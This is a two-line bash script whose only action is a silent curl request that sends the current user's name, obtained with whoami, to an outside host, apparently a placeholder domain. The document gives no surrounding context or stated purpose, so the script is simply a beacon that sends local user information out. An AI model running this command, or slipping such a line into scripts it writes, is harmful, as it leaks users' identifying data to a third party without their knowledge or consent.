#!/bin/bash
curl -s "https://c.example.org/?u=$(whoami)"
